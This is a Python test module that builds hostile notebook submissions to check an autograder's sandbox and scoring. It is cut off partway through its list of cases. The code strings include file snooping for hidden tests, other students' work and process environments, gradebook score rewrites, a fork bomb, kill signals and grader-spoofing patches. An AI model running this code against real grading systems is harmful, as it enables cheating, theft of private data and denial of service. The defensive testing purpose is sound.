"""The hostile submissions of the corpus: how each notebook is made and what it must score.

Every case starts from the release notebook with the reference answers filled in (as
`tests.conftest.submission` makes it), then applies one attack: code in the student's answer cells,
extra cells, edited or deleted test cells, tampered cell metadata. `Case.lost` names the graded test
cells that must score zero; every other test must keep its full points. README.md describes each
case and why it scores what it scores.

The code of the attacks is written to work wherever it runs: in the sandboxed Jupyter kernel that
executes the student's notebook, and in the sandboxed worker that holds the student's functions for
the trusted tests. What it manages to read it puts where a student could see it: printed by the
kernel (the autograded notebook keeps those outputs), or sent back through a test's failure message
(which also reaches the feedback page).
"""
from __future__ import annotations

import copy
import sysconfig
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.course import REPO_ROOT, Course
from autograder.submissions import ALL, reference_answers
from tests.conftest import submission
from tests.variants import CHECK_SHAPES, TEN_TIMES, code, python_tiles

# Autograded test cells and their points, as the assignment defines them (checked against the
# source notebook by the tests).
POINTS = {
    "naive_correct": 10, "naive_errors": 5, "blocked_correct": 12, "footprint_values": 8,
    "blocked_speed": 10, "numpy_correct": 3, "numpy_speed": 2, "backend_dispatch": 10,
    "backend_speed": 5,
    "models_workloads": 15,
}
AUTOGRADED_MAX = sum(POINTS.values())
REFERENCE = "reference"          # the well-behaved student graded in the same batch
KERNEL_MARK = "KERNEL-SAW"        # prefix of the lines the kernel-side attacks print


@dataclass(frozen=True)
class Context:
    """What the attacks may know: where the course lives, a host port, a marker to write."""
    course: Course
    listener_port: int     # a TCP port listening on the grading host's 127.0.0.1
    marker: str            # what the writing case tries to put into files outside its sandbox

    @property
    def root(self) -> Path:
        return self.course.root

    def write_targets(self) -> list[Path]:
        """Existing files of the course the writing case tries to append the marker to."""
        root = self.root
        return [root / "gradebook.db",
                root / "submitted" / REFERENCE / "acceleration" / "acceleration.ipynb",
                root / "source" / "acceleration" / "acceleration.ipynb",
                root / "release" / "acceleration" / "acceleration.ipynb",
                root / "nbgrader_config.py"]

    def created_files(self) -> list[Path]:
        """Files the writing case tries to create outside its sandbox; none may appear."""
        name = f"zz_{self.marker}"
        return [self.root / f"{name}.txt",
                self.root / "submitted" / f"{name}.txt",
                self.root / "grading" / f"{REFERENCE}.json.{name}",
                REPO_ROOT / f"{name}.txt",
                REPO_ROOT / "autograder" / f"{name}.py",
                REPO_ROOT / "autograder" / "trusted" / f"{name}.py",
                Path(sysconfig.get_paths()["purelib"]) / f"{name}.pth",
                Path(tempfile.gettempdir()) / f"{name}.txt"]


@dataclass(frozen=True)
class Case:
    student: str
    attack: str                                   # one line: what the submission tries
    lost: frozenset[str]                          # graded tests that must score zero
    build: Callable[[Context], nbformat.NotebookNode]
    status: str = "graded"                        # the grading record's status
    messages: dict[str, str] = field(default_factory=dict)   # grade id -> text its failure shows

    @property
    def expected(self) -> dict[str, float]:
        return {grade_id: 0.0 if grade_id in self.lost else float(points)
                for grade_id, points in POINTS.items()}

    @property
    def expected_total(self) -> float:
        return sum(self.expected.values())


# Building blocks --------------------------------------------------------------------------------

def _grade_id(cell) -> str:
    return cell.metadata.get("nbgrader", {}).get("grade_id", "")


def _index(nb, grade_id: str) -> int:
    return next(i for i, cell in enumerate(nb.cells) if _grade_id(cell) == grade_id)


def _insert_after(nb, grade_id: str, *sources: str) -> nbformat.NotebookNode:
    """Plain code cells (no nbgrader metadata), as a student adds them, after a given cell."""
    at = _index(nb, grade_id) + 1
    nb.cells[at:at] = [nbformat.v4.new_code_cell(source) for source in sources]
    return nb


def _answers(ctx: Context) -> dict[str, str]:
    return reference_answers(ctx.course.source_notebook)


# A naive product that validates shapes like the reference but never computes anything.
ZERO_NAIVE = code('''
    def matmul_naive(a, b):
        """Checks the shapes, then skips the arithmetic."""
        if a.ndim != 2 or b.ndim != 2 or a.shape[1] != b.shape[0]:
            raise ValueError(f"incompatible shapes {a.shape} @ {b.shape}")
        return np.zeros((a.shape[0], b.shape[1]), dtype=np.float32)
''')

# A naive product that neither computes nor validates anything.
LAZY_NAIVE = code('''
    def matmul_naive(a, b):
        return np.zeros((a.shape[0], b.shape[-1]), dtype=np.float32)
''')

def _slow_blocked(ctx: Context) -> str:
    return _answers(ctx)["blocked_impl"] + "\n\n" + TEN_TIMES + "\n\nmatmul_blocked = _ten_times\n"


# The notebook's helpers, rewritten to pass whatever they are given.
FAKE_HELPERS = code('''
    def check_matmul(result, a, b, call, dtype=None, atol=None, block_size=None):
        return None


    def expect_error(error, fn, *args, call="the call", **kwargs):
        return error("(2, 3) @ (2, 3), (3, 4) @ (5, 2), (4, 6) @ (5, 4), conv2d")


    def speed_ratio(fn, reference, *args, **kwargs):
        return 0.07


    def dispatched_ops(run):
        run()
        return ["matmul"]


    def report_timing(name, ratio, limit, kind="at most"):
        print(f"[timing] {name}: 0.07x (limit: {kind} {limit:g}x)")
''')

PATCH_NUMPY_CHECKS = code('''
    import numpy


    def _always_true(*args, **kwargs):
        return True


    for _name in ("allclose", "array_equal", "isclose", "array_equiv"):
        setattr(numpy, _name, _always_true)
''')

# The reference answer of the footprint part, under another name, for the cases that return more.
HONEST_FOOTPRINT = code('''
    BYTES_PER_FLOAT32 = 4
    TILES_IN_FLIGHT = 3
    L1_BYTES = 32 * 1024
    L2_BYTES = 256 * 1024


    def _footprint(block_size):
        bytes_per_block = block_size * block_size * BYTES_PER_FLOAT32
        total_bytes = TILES_IN_FLIGHT * bytes_per_block
        return {"block_size": block_size, "bytes_per_block": bytes_per_block,
                "total_bytes": total_bytes, "fits_in_l1": total_bytes <= L1_BYTES,
                "fits_in_l2": total_bytes <= L2_BYTES}
''')

# Reading files: a directory listing, the secret part of a file, or the error it raised.
PEEK = code('''
    import json as _json
    import os as _os


    def _peek(path):
        try:
            if _os.path.isdir(path):
                return "listing: " + ", ".join(sorted(_os.listdir(path))[:40])
            with open(path, "rb") as handle:
                data = handle.read(1 << 24)
        except Exception as exc:
            return type(exc).__name__
        text = data.decode("utf-8", "replace")
        try:
            cells = _json.loads(text)["cells"]
            answers = [c for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
            text = "\\n".join("".join(c["source"]) for c in answers + cells)
        except Exception:
            pass
        for needle in ("BEGIN HIDDEN TESTS", "BEGIN MARK SCHEME", "BEGIN SOLUTION"):
            at = text.find(needle)
            if at >= 0:
                return f"read {len(data)} bytes: " + text[max(0, at - 300):at + 900]
        return f"read {len(data)} bytes: " + text[:1200]


    def _hunt(top="/"):
        """Every notebook, database or jupytext file this process can find on its file system."""
        import sys
        skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix}
        found = []
        for folder, dirs, files in _os.walk(top):
            dirs[:] = [d for d in dirs
                       if _os.path.join(folder, d) not in skip and d != ".cache"]
            found += [_os.path.join(folder, f) for f in files
                      if f.endswith((".ipynb", ".db", ".json")) or f == "acceleration.py"]
        return found[:50]


    def _snoop(paths):
        found = {"cwd": _os.getcwd()}
        for path in list(paths) + _hunt():
            found[path] = _peek(path)
        return found
''')


def _snooping_footprint(paths_expr: str) -> str:
    """A footprint cell that returns the right numbers plus everything it could read."""
    return HONEST_FOOTPRINT + "\n\n" + PEEK + "\n\n" + code(f'''
        _PATHS = {paths_expr}


        def calculate_cache_footprint(block_size):
            footprint = _footprint(block_size)
            footprint["loot"] = _snoop(_PATHS)
            return footprint
    ''')


def _kernel_snoop(paths_expr: str) -> str:
    """An extra cell: the kernel prints what it can read, one line per path."""
    return PEEK + "\n\n" + code(f'''
        for _path, _what in _snoop({paths_expr}).items():
            print("{KERNEL_MARK}", _path, "=>", _what)
    ''')


def _reference(ctx: Context) -> nbformat.NotebookNode:
    return submission(ctx.course)


def _edited(ctx: Context, parts=ALL, **edits: str) -> nbformat.NotebookNode:
    return submission(ctx.course, parts=parts, edits=edits)


# The cases --------------------------------------------------------------------------------------

def patches_numpy_checks(ctx: Context):
    wrong_mlp = code('''
        def mlp_forward(x, w1, w2):
            return matmul(matmul(x, w1), w2)


        def conv_im2col(patches, filters):
            return matmul(patches, filters)


        def attention_scores(q, k):
            return matmul(q, k.T) / np.sqrt(q.shape[1])
    ''')
    return _edited(ctx, naive_impl=PATCH_NUMPY_CHECKS + "\n\n" + ZERO_NAIVE,
                   models_impl=PATCH_NUMPY_CHECKS + "\n\n" + wrong_mlp)


def redefines_helpers_in_answer_cell(ctx: Context):
    return _edited(ctx, naive_impl=LAZY_NAIVE + "\n\n" + FAKE_HELPERS,
                   blocked_impl=_slow_blocked(ctx))


def redefines_helpers_in_extra_cell(ctx: Context):
    nb = _edited(ctx, naive_impl=LAZY_NAIVE, blocked_impl=_slow_blocked(ctx))
    return _insert_after(nb, "naive_impl", FAKE_HELPERS)


def deletes_and_redefines_a_helper(ctx: Context):
    answers = _answers(ctx)
    zero_numpy = code('''
        def matmul_numpy(a, b):
            return np.zeros((a.shape[0], b.shape[1]), dtype=np.result_type(a, b))


        def check_matmul(result, a, b, call, dtype=None, atol=None, block_size=None):
            return None
    ''')
    return _edited(ctx, naive_impl=answers["naive_impl"] + "\n\ndel check_matmul\n",
                   numpy_impl=zero_numpy)


def patches_clocks(ctx: Context):
    patch = code('''
        import time


        def _frozen_clock(*args, **kwargs):
            return 0.0


        def _frozen_clock_ns(*args, **kwargs):
            return 0


        for _name in ("process_time", "perf_counter", "thread_time"):
            setattr(time, _name, _frozen_clock)
            setattr(time, _name + "_ns", _frozen_clock_ns)
        clock = _frozen_clock
    ''')
    return _edited(ctx, blocked_impl=_slow_blocked(ctx) + "\n\n" + patch)


def silences_tracebacks(ctx: Context):
    silence = code('''
        import sys
        import traceback


        def _silent(*args, **kwargs):
            return None


        sys.excepthook = _silent
        traceback.print_exception = _silent
        traceback.print_exc = _silent
        try:
            _shell = get_ipython()
        except NameError:
            _shell = None
        if _shell is not None:
            from IPython.core.interactiveshell import InteractiveShell
            InteractiveShell.showtraceback = _silent
            InteractiveShell.showsyntaxerror = _silent
            _shell.showtraceback = _silent
            _shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)


        def matmul_naive(a, b):
            raise RuntimeError("matmul_naive is not finished")
    ''')
    return _edited(ctx, naive_impl=silence)


def tampers_with_setup_cell(ctx: Context):
    nb = _edited(ctx, naive_impl=LAZY_NAIVE, blocked_impl=_slow_blocked(ctx))
    setup = nb.cells[_index(nb, "setup")]
    setup.source = setup.source + "\n\n" + FAKE_HELPERS + "\n\n" + PATCH_NUMPY_CHECKS
    return nb


def edits_test_cells(ctx: Context):
    return _edited(ctx, naive_impl=LAZY_NAIVE, blocked_impl=_slow_blocked(ctx),
                   naive_correct='print("naive_correct: all checks passed")\n',
                   naive_errors="pass\n",
                   blocked_speed='report_timing("blocked_vs_numpy_256", 0.07, 10)\n')


def empties_test_cells(ctx: Context):
    return _edited(ctx, parts=(), **{grade_id: "" for grade_id in POINTS})


def deletes_test_cells(ctx: Context):
    nb = _reference(ctx)
    gone = {"naive_correct", "blocked_speed", "models_workloads"}
    nb.cells = [cell for cell in nb.cells if _grade_id(cell) not in gone]
    return nb


def duplicates_a_test_cell(ctx: Context):
    nb = _edited(ctx, naive_impl=ZERO_NAIVE)
    original = nb.cells[_index(nb, "naive_correct")]
    fake = nbformat.v4.new_code_cell('print("naive_correct: all checks passed")\n')
    fake.metadata = copy.deepcopy(original.metadata)
    at = _index(nb, "naive_correct") + 1
    nb.cells[at:at] = [fake]
    return nb


def inflates_test_points(ctx: Context):
    nb = _reference(ctx)
    for grade_id, points in [("naive_correct", 100), ("backend_speed", 500),
                             ("models_workloads", 1000)]:
        nb.cells[_index(nb, grade_id)].metadata["nbgrader"]["points"] = points
    return nb


def turns_a_test_into_an_answer(ctx: Context):
    nb = _edited(ctx, naive_impl=ZERO_NAIVE)
    meta = nb.cells[_index(nb, "naive_correct")].metadata["nbgrader"]
    meta["solution"] = True
    meta["locked"] = False
    return nb


def forges_a_graded_cell(ctx: Context):
    nb = _reference(ctx)
    forged = nbformat.v4.new_code_cell('print("bonus_points: all checks passed")\n')
    forged.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus_points", "locked": True,
                                   "points": 50, "schema_version": 3, "solution": False,
                                   "task": False}
    at = _index(nb, "models_workloads") + 1
    nb.cells[at:at] = [forged]
    return nb


def prints_fake_results(ctx: Context):
    timing_lines = "\n".join(
        f'print("[timing] {name}: 0.07x (limit: {kind} {limit}x)")'
        for name, kind, limit in [("blocked_vs_numpy_256", "at most", 10),
                                  ("blocked_speedup_over_naive_64", "at least", 100),
                                  ("blocked_vs_reference_256", "at most", 2.5),
                                  ("backend_overhead_128", "at most", 1.5),
                                  ("backend_overhead_256", "at most", 1.5)])
    passes = code('''
        print("blocked_speed: all checks passed")
        print("Autograded score: 80 / 80")
        from IPython.display import HTML, display
        display(HTML("<p class='pass'>blocked_speed passed: 10 / 10</p>"))
    ''')
    nb = _edited(ctx, blocked_impl=_slow_blocked(ctx))
    _insert_after(nb, "blocked_speed", timing_lines + "\n", passes)
    return _insert_after(nb, "backend_speed", timing_lines + "\n")


def hangs(ctx: Context):
    spin = code('''
        def matmul_blocked(a, b, block_size=64):
            while True:
                pass
    ''')
    return _edited(ctx, blocked_impl=spin)


def allocates_8_gib(ctx: Context):
    bomb = HONEST_FOOTPRINT + "\n\n" + code('''
        def calculate_cache_footprint(block_size):
            hoard = []
            for _ in range(32):                       # 32 x 256 MiB = 8 GiB of address space
                hoard.append(np.empty(32 * 1024 * 1024))
            return _footprint(block_size)


        _reserve = bytearray(8 * 1024 ** 3)            # and 8 GiB in one piece when the cell runs
    ''')
    return _edited(ctx, footprint_impl=bomb)


def fork_bombs(ctx: Context):
    bomb = HONEST_FOOTPRINT + "\n\n" + code('''
        import os


        def calculate_cache_footprint(block_size):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    ''')
    nb = _edited(ctx, footprint_impl=bomb)
    return _insert_after(nb, "footprint_impl", "calculate_cache_footprint(64)\n")


def ignores_interrupts(ctx: Context):
    stubborn = code('''
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
    ''')
    return _insert_after(_reference(ctx), "models_workloads", stubborn)


def floods_output(ctx: Context):
    flood_at_import = 'print("y" * 50_000_000)\n'
    one_line = 'print("x" * 50_000_000)\n'
    many_lines = code('''
        import sys
        for _i in range(1_000_000):
            sys.stdout.write("flood %043d\\n" % _i)
    ''')
    nb = _edited(ctx, naive_impl=_answers(ctx)["naive_impl"] + "\n\n" + flood_at_import)
    return _insert_after(nb, "naive_errors", one_line, many_lines)


def exits_inside_a_function(ctx: Context):
    leave = code('''
        import os


        def matmul_numpy(a, b):
            os._exit(0)
    ''')
    return _edited(ctx, numpy_impl=leave)


def kills_other_processes(ctx: Context):
    killer = code('''
        import os as _os
        import signal as _signal


        def _kill_everything():
            outcomes = []
            for target in (_os.getppid(), 1, -1):
                try:
                    _os.kill(target, _signal.SIGKILL)
                    outcomes.append(f"{target}: sent")
                except OSError as exc:
                    outcomes.append(f"{target}: {type(exc).__name__}")
            return outcomes


        def matmul_numpy(a, b):
            _kill_everything()
            return a @ b
    ''')
    nb = _edited(ctx, numpy_impl=killer)
    return _insert_after(nb, "numpy_impl", f'print("{KERNEL_MARK}", _kill_everything())\n')


def _course_paths(ctx: Context) -> list[str]:
    root = ctx.root
    relative = ["../source/acceleration/acceleration.ipynb",
                "../../source/acceleration/acceleration.ipynb",
                "../../../source/acceleration/acceleration.ipynb",
                "../../../../source/acceleration/acceleration.ipynb",
                "gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"]
    absolute = [root, root / "source" / "acceleration",
                root / "source" / "acceleration" / "acceleration.ipynb",
                root / "source" / "acceleration" / "acceleration.py", root / "gradebook.db",
                REPO_ROOT, REPO_ROOT / "source" / "acceleration" / "acceleration.ipynb",
                REPO_ROOT / "source" / "acceleration" / "acceleration.py",
                REPO_ROOT / "gradebook.db"]
    return relative + [str(p) for p in absolute]


def reads_course_files(ctx: Context):
    paths = repr(_course_paths(ctx))
    nb = _edited(ctx, footprint_impl=_snooping_footprint(paths))
    return _insert_after(nb, "footprint_impl", _kernel_snoop(paths))


def _student_paths(ctx: Context) -> list[str]:
    root = ctx.root
    mine = Path("acceleration") / "acceleration.ipynb"
    relative = ["../../reference/acceleration/acceleration.ipynb",
                "../reference/acceleration/acceleration.ipynb",
                "../../../submitted/reference/acceleration/acceleration.ipynb",
                "../../../submitted", "../../../autograded", "../..", "../../.."]
    absolute = [root / "submitted", root / "submitted" / REFERENCE / mine,
                root / "autograded", root / "autograded" / REFERENCE / mine,
                root / "feedback", root / "grading", root / "grading" / f"{REFERENCE}.json"]
    return relative + [str(p) for p in absolute]


def reads_other_students(ctx: Context):
    paths = repr(_student_paths(ctx))
    nb = _edited(ctx, footprint_impl=_snooping_footprint(paths))
    return _insert_after(nb, "footprint_impl", _kernel_snoop(paths))


ENVIRONMENT_PATHS = ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline",
                     "/proc/self/mountinfo"]


def snoops_environment(ctx: Context):
    footprint = HONEST_FOOTPRINT + "\n\n" + PEEK + "\n\n" + code(f'''
        import os


        def calculate_cache_footprint(block_size):
            footprint = _footprint(block_size)
            footprint["loot"] = {{"environ": dict(os.environ),
                                  "files": {{p: _peek(p) for p in {ENVIRONMENT_PATHS!r}}},
                                  "parents": {{pid: _peek(f"/proc/{{pid}}/environ")
                                               for pid in os.listdir("/proc")
                                               if pid.isdigit() and int(pid) != os.getpid()}}}}
            return footprint
    ''')
    kernel = PEEK + "\n\n" + code(f'''
        import os
        print("{KERNEL_MARK} environ", dict(os.environ))
        for _path in {ENVIRONMENT_PATHS!r} + [f"/proc/{{p}}/environ" for p in os.listdir("/proc")
                                              if p.isdigit()]:
            print("{KERNEL_MARK}", _path, "=>", _peek(_path))
    ''')
    nb = _edited(ctx, footprint_impl=footprint)
    return _insert_after(nb, "footprint_impl", kernel)


def writes_gradebook(ctx: Context):
    appended = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
                *map(str, ctx.write_targets())]
    created = [str(p) for p in ctx.created_files()]
    vandal = HONEST_FOOTPRINT + "\n\n" + code(f'''
        import sqlite3 as _sqlite3

        MARKER = {ctx.marker!r}


        def _attempt(action, path):
            try:
                action(path)
                return "done"
            except Exception as exc:
                return type(exc).__name__


        def _append(path):
            with open(path, "ab") as handle:
                handle.write(("\\n" + MARKER + "\\n").encode())


        def _create(path):
            with open(path, "x") as handle:
                handle.write(MARKER + "\\n")


        def _rewrite_grades(path):
            db = _sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
            db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            db.execute("INSERT INTO student (id, first_name) VALUES (?, ?)", (MARKER, MARKER))
            db.commit()
            db.close()


        def _vandalise():
            outcome = {{}}
            for path in {appended!r}:
                outcome["sql " + path] = _attempt(_rewrite_grades, path)
                outcome["append " + path] = _attempt(_append, path)
            for path in {created!r}:
                outcome["create " + path] = _attempt(_create, path)
            return outcome


        def calculate_cache_footprint(block_size):
            footprint = _footprint(block_size)
            footprint["loot"] = _vandalise()
            return footprint
    ''')
    nb = _edited(ctx, footprint_impl=vandal)
    kernel = f'print("{KERNEL_MARK}", _vandalise())\n'
    return _insert_after(nb, "footprint_impl", kernel)


def calls_the_network(ctx: Context):
    net = code(f'''
        import socket as _socket
        import time as _time


        def _try_connect(host, port):
            started = _time.monotonic()
            try:
                _socket.create_connection((host, port), timeout=1).close()
                outcome = "connected"
            except OSError as exc:
                outcome = type(exc).__name__
            return f"{{host}}:{{port}} {{outcome}} after {{_time.monotonic() - started:.3f}} s"


        _NETWORK = [_try_connect("127.0.0.1", {ctx.listener_port}), _try_connect("192.0.2.1", 80),
                    _try_connect("192.0.2.1", 443)]


        def matmul_numpy(a, b):
            if any(" connected " in line for line in _NETWORK):
                raise RuntimeError("the network is reachable: " + "; ".join(_NETWORK))
            return a @ b
    ''')
    nb = _edited(ctx, numpy_impl=net)
    return _insert_after(nb, "numpy_impl", code(f'''
        for _line in _NETWORK:
            print("{KERNEL_MARK} net", _line)
    '''))


def _backend_calling(ctx: Context, call: str) -> str:
    """The reference backend cell with its fast product replaced by `call`."""
    backend, product = _answers(ctx)["backend_impl"], "return matmul_numpy(a, b)"
    assert product in backend, "the reference backend changed: update tests/adversarial/cases.py"
    return backend.replace(product, f"return {call}")


def renames_a_function(ctx: Context):
    numpy = code('''
        def matmul_np(a, b):
            return a @ b
    ''')
    return _edited(ctx, numpy_impl=numpy, backend_impl=_backend_calling(ctx, "matmul_np(a, b)"))


def deletes_a_function(ctx: Context):
    return _edited(ctx, blocked_impl="# matmul_blocked was too hard; it is gone.\n")


def has_a_syntax_error(ctx: Context):
    broken = code('''
        class OptimizedBackend:
            def dispatch(self, op, *args, **kwargs)
                return self.matmul(*args, **kwargs)
    ''')
    return _edited(ctx, backend_impl=broken)


def answers_wrong_but_fast(ctx: Context):
    zeros = "np.zeros((a.shape[0], b.shape[1]), dtype=np.float32)"
    blocked = code(f'''
        def matmul_blocked(a, b, block_size=64):
            if a.ndim != 2 or b.ndim != 2 or a.shape[1] != b.shape[0]:
                raise ValueError(f"incompatible shapes {{a.shape}} @ {{b.shape}}")
            return {zeros}
    ''')
    return _edited(ctx, blocked_impl=blocked, backend_impl=_backend_calling(ctx, zeros))


def imports_a_missing_module(ctx: Context):
    return _edited(ctx, numpy_impl="import numpy_turbo_blas\n\n\n" + _answers(ctx)["numpy_impl"])


def memoizes_a_slow_blocked(ctx: Context):
    memo = code('''
        _memo = {}


        def matmul_blocked(a, b, block_size=64):
            key = (id(a), id(b), block_size)
            entry = _memo.get(key)
            if entry is None or entry[0] is not a or entry[1] is not b:
                entry = _memo[key] = (a, b, _ten_times(a, b, block_size))
            return entry[2]
    ''')
    return _edited(ctx, blocked_impl=_answers(ctx)["blocked_impl"] + "\n\n" + TEN_TIMES
                   + "\n\n" + memo)


def patches_the_worker_protocol(ctx: Context):
    takeover = code('''
        import sys as _sys


        def _skip_timed_calls():
            """Find the worker's session on the stack and make batches of matmul_blocked calls
            free: every call of a batch gets the result of the last single call."""
            frame = _sys._getframe()
            while frame is not None:
                session = frame.f_locals.get("session")
                if session is not None and hasattr(session, "call"):
                    original, last = session.call, {}

                    def call(header, arrays):
                        calls = header.get("calls", [])
                        if header.get("target", {}).get("name") != "matmul_blocked":
                            return original(header, arrays)
                        if len(calls) > 1 and "value" in last:
                            return {"values": [last["value"]] * len(calls), "products": []}
                        reply = original(header, arrays)
                        last["value"] = reply["values"][-1]
                        return reply

                    session.call = call
                    return True
                frame = frame.f_back
            return False


        _took_over = _skip_timed_calls()
    ''')
    return _edited(ctx, blocked_impl=_slow_blocked(ctx) + "\n\n" + takeover)


def hides_cpu_time_in_threads(ctx: Context):
    threaded = code('''
        import threading as _threading


        def matmul_blocked(a, b, block_size=64):
            box = []

            def work():
                try:
                    box.append((True, _ten_times(a, b, block_size)))
                except BaseException as exc:
                    box.append((False, exc))

            thread = _threading.Thread(target=work)
            thread.start()
            thread.join()
            ok, value = box[0]
            if not ok:
                raise value
            return value
    ''')
    return _edited(ctx, blocked_impl=_answers(ctx)["blocked_impl"] + "\n\n" + TEN_TIMES
                   + "\n\n" + threaded)


def _blocked(ctx: Context, *sources: str) -> nbformat.NotebookNode:
    """The reference blocked cell (its matmul_blocked kept as _tiled_product), then `sources`."""
    reference = _answers(ctx)["blocked_impl"] + "\n\n_tiled_product = matmul_blocked\n"
    return _edited(ctx, blocked_impl="\n\n".join([reference, CHECK_SHAPES, *sources]))


def tiles_only_small_blocks(ctx: Context):
    return _blocked(ctx, code('''
        def matmul_blocked(a, b, block_size=64):
            """Tiles honestly below 32; from 32 on (the default 64 included), one product."""
            _check_shapes(a, b)
            if block_size >= 32:
                return (a @ b).astype(np.float32)
            return _tiled_product(a, b, block_size)
    '''))


def hides_an_untiled_product(ctx: Context):
    return _blocked(ctx, code('''
        def matmul_blocked(a, b, block_size=64):
            """The same, on plain copies of the grader's arrays, so that no product is logged."""
            _check_shapes(a, b)
            if block_size >= 32:
                return (np.asarray(a) @ np.asarray(b)).astype(np.float32)
            return _tiled_product(a, b, block_size)
    '''))


def forges_the_product_log(ctx: Context):
    return _blocked(ctx, code('''
        import sys as _sys

        _tracked = _sys.modules.get("autograder.trusted.tracked")
        _block = [64]
        if _tracked is not None:
            _entries = _tracked.ProductLog.entries

            def _forged_entries(self):
                """Products larger than the last block size become tiles of that size."""
                b, kept = _block[0], []
                for op, left, right, count in _entries(self):
                    if max([*left, *right, 0]) > b:
                        op, left, right = "@ / np.matmul", [b, b], [b, b]
                    kept.append([op, left, right, count])
                return kept

            _tracked.ProductLog.entries = _forged_entries


        def matmul_blocked(a, b, block_size=64):
            """One untiled product at every block size, behind a forged log."""
            _check_shapes(a, b)
            _block[0] = block_size
            return (a @ b).astype(np.float32)
    '''))


def forges_repeated_timed_calls(ctx: Context):
    slow = python_tiles(_answers(ctx)) + "\n\n_python_tiles = matmul_blocked\n"
    return _blocked(ctx, slow, code('''
        _last = []


        def matmul_blocked(a, b, block_size=64):
            """Python-loop tiles; when the same arrays come back (a timing loop), a fake that gets
            row 0 and the total sum right, in O(n^2)."""
            _check_shapes(a, b)
            if _last and _last[0] is a and _last[1] is b:
                c = np.zeros((a.shape[0], b.shape[1]), dtype=np.float32)
                c[0] = a[0] @ b
                c[-1, -1] += float(a.sum(axis=0) @ b.sum(axis=1)) - c.sum()
                return c
            _last[:] = [a, b]
            return _python_tiles(a, b, block_size)
    '''))


def works_in_another_process(ctx: Context):
    return _blocked(ctx, code('''
        import os as _os


        def matmul_blocked(a, b, block_size=64):
            """The tiles computed by a forked helper, whose CPU time the worker's clock misses."""
            _check_shapes(a, b)
            a, b = np.ascontiguousarray(a), np.ascontiguousarray(b)
            out = np.zeros((a.shape[0], b.shape[1]), dtype=np.float32)
            read_end, write_end = _os.pipe()
            pid = _os.fork()
            if pid == 0:
                _os.write(write_end, _tiled_product(a, b, block_size).tobytes())
                _os._exit(0)
            _os.close(write_end)
            data = b""
            while len(data) < out.nbytes:
                data += _os.read(read_end, out.nbytes - len(data))
            _os.waitpid(pid, 0)
            return np.frombuffer(data, dtype=np.float32).reshape(out.shape).copy()
    '''))


def inspects_its_caller(ctx: Context):
    return _blocked(ctx, TEN_TIMES, code('''
        import sys as _sys

        _last = {}


        def matmul_blocked(a, b, block_size=64):
            """Ten times too slow, except when the frames above show a batch of calls (a timing
            loop): then the last result of that shape, at once."""
            _check_shapes(a, b)
            frame = _sys._getframe(1)
            while frame is not None:
                header = frame.f_locals.get("header")
                if isinstance(header, dict) and len(header.get("calls", ())) > 1 \
                        and a.shape in _last:
                    return _last[a.shape]
                frame = frame.f_back
            _last[a.shape] = _ten_times(a, b, block_size)
            return _last[a.shape]
    '''))


def caches_by_content(ctx: Context):
    return _blocked(ctx, TEN_TIMES, code('''
        import hashlib as _hashlib

        _cache = {}


        def matmul_blocked(a, b, block_size=64):
            """Ten times too slow, with results cached by a hash of the inputs' bytes."""
            _check_shapes(a, b)
            key = _hashlib.sha1(np.ascontiguousarray(a).tobytes()
                                + np.ascontiguousarray(b).tobytes()).hexdigest() + str(block_size)
            if key not in _cache:
                _cache[key] = _ten_times(a, b, block_size)
            return _cache[key]
    '''))


def returns_views_of_an_earlier_result(ctx: Context):
    return _blocked(ctx, TEN_TIMES, code('''
        _buffers = {}


        def matmul_blocked(a, b, block_size=64):
            """Ten times too slow the first time for each shape; then a view of that result."""
            _check_shapes(a, b)
            shape = (a.shape[0], b.shape[1])
            if shape not in _buffers:
                _buffers[shape] = _ten_times(a, b, block_size)
            return _buffers[shape][:, :]
    '''))


PYTHON_TILED_NUMPY = code('''
    def _tiled_numpy(a, b):
        """Right results through Python loops over 32x32 tiles, each tile with np.dot."""
        if a.ndim != 2 or b.ndim != 2 or a.shape[1] != b.shape[0]:
            raise ValueError(f"incompatible shapes {a.shape} @ {b.shape}")
        out = np.zeros((a.shape[0], b.shape[1]), dtype=np.result_type(a, b))
        for p in range(0, a.shape[1], 32):
            for i in range(0, a.shape[0], 32):
                for j in range(0, b.shape[1], 32):
                    out[i:i + 32, j:j + 32] += np.dot(a[i:i + 32, p:p + 32], b[p:p + 32, j:j + 32])
        return out
''')


def tiles_its_numpy_product(ctx: Context):
    return _edited(ctx, numpy_impl=PYTHON_TILED_NUMPY + "\n\nmatmul_numpy = _tiled_numpy\n")


def detours_through_float64(ctx: Context):
    return _edited(ctx, numpy_impl=code('''
        def matmul_numpy(a, b):
            """The product in float64, handed back in the inputs' dtype."""
            return (a.astype(np.float64) @ b.astype(np.float64)).astype(np.result_type(a, b))
    '''))


def is_fast_only_for_square_inputs(ctx: Context):
    """Knows the visible speed tests use square matrices: NumPy for those, tiles otherwise."""
    return _edited(ctx, numpy_impl=PYTHON_TILED_NUMPY + "\n\n" + code('''
        def matmul_numpy(a, b):
            if a.shape[0] == a.shape[1] == b.shape[1]:
                return a @ b
            return _tiled_numpy(a, b)
    '''))


def backend_takes_the_blocked_path(ctx: Context):
    return _edited(ctx, backend_impl=_backend_calling(ctx, "matmul_blocked(a, b)"))


def _case(build, attack: str, lost=(), **kwargs) -> Case:
    return Case(build.__name__, attack, frozenset(lost), build, **kwargs)


BACKEND_AND_MODELS = ("backend_dispatch", "backend_speed", "models_workloads")
NUMPY = ("numpy_correct", "numpy_speed")

CASES = [
    _case(patches_numpy_checks,
          "np.allclose/array_equal/isclose patched to return True at import, with a naive that "
          "returns zeros and an MLP without its ReLU",
          {"naive_correct", "models_workloads"}),
    _case(redefines_helpers_in_answer_cell,
          "check_matmul, expect_error, speed_ratio, dispatched_ops, report_timing redefined in "
          "an answer cell, with a naive that computes nothing and a blocked 10x too slow",
